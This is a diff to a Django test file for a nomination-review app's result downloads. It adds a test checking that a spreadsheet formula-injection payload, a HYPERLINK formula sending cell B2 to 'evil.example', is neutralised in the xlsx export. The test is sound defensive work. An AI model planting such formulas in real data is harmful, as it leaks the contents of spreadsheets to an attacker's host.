@@ -75,9 +75,10 @@ def test_the_nominations_download_is_filtered_and_holds_no_contact_details(staff
     assert "anna@example.org" not in str(everything)
 
 
-def test_results_and_reviews_download(staff_client, staff_user, child10):
+def reviewed_by_three(child10, staff_user, name: str) -> list:
+    """One candidate called `name`, scored 4 on every criterion by three members: the members."""
     people = [member(child10, f"m{n}@example.org") for n in range(3)]
-    strong = ready(child10, "Strong Org", website="https://strong.se", staff=staff_user)
+    strong = ready(child10, name, website="https://strong.se", staff=staff_user)
     services.propose_assignment(child10, actor=staff_user, k=3)
     services.publish_assignment(child10, actor=staff_user)
     open_review(child10)
@@ -86,6 +87,11 @@ def test_results_and_reviews_download(staff_client, staff_user, child10):
             person, strong, scores={str(n): 4 for n in range(1, 5)}, comments={},
             recommendation="yes", submit=True,
         )  # fmt: skip
+    return people
+
+
+def test_results_and_reviews_download(staff_client, staff_user, child10):
+    people = reviewed_by_three(child10, staff_user, "Strong Org")
 
     results = rows_of(staff_client.get(reverse("review:results"), {"format": "csv"}))
     reviews = rows_of(
@@ -96,6 +102,21 @@ def test_results_and_reviews_download(staff_client, staff_user, child10):
     assert results[1][:2] == ["Strong Org", "3"]
     assert sorted(row[1] for row in reviews[1:]) == [p.email for p in people]
     assert all(row[4:8] == ["4", "4", "4", "4"] for row in reviews[1:])
+
+
+def test_the_results_workbook_makes_a_nominated_formula_text(staff_client, staff_user, child10):
+    formula = ' =HYPERLINK("http://evil.example/?leak="&B2,"Open")'  # after a space
+    reviewed_by_three(child10, staff_user, formula)
+
+    response = staff_client.get(reverse("review:results"), {"format": "xlsx"})
+
+    book = load_workbook(BytesIO(response.content))
+    assert book.sheetnames == ["Results", "Reviews", "Agreement"]
+    assert book["Results"]["A2"].value == "'" + formula
+    assert {row[0] for row in book["Reviews"].iter_rows(min_row=2, values_only=True)} == {
+        "'" + formula
+    }
+    assert response["Cache-Control"] == "no-store, private"
 
 
 def test_a_member_prints_the_dossier_and_it_says_for_whom(client, staff_user, child10):
